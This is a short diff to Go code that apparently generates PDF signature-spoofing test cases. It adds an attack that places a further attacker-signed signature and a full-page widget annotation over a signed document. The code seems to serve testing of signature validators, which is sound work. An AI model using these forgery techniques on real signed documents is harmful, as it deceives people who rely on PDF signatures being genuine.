@@ -93,7 +93,9 @@ func sneakySignatures(f *forger) []Attack {
 	room := "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approval) /Rect [0 0 595 842] /F 4 /P 3 0 R "
 	inTwo := f.start(Signing{Certify: 2})
 	inTwo.update(append(field(inTwo, "")[:2], object(firstFree+20, room+">>"))...)
+	large := f.start(Signing{}) // nothing forbids a further signature, and it is valid
 	return []Attack{
+		f.attack("ssa-stamp-over-the-page", large.sign(f.signers.AttackerCMS, field(large, "/V 34 0 R"))),
 		f.attack("ssa-field-first-and-look-later", inTwo.sign(f.signers.AttackerCMS, []string{
 			object(firstFree+20, room+"/V 34 0 R /AP << /N 33 0 R >> >>"), object(firstFree+21, stream(pageLook, says99)),
 		})),
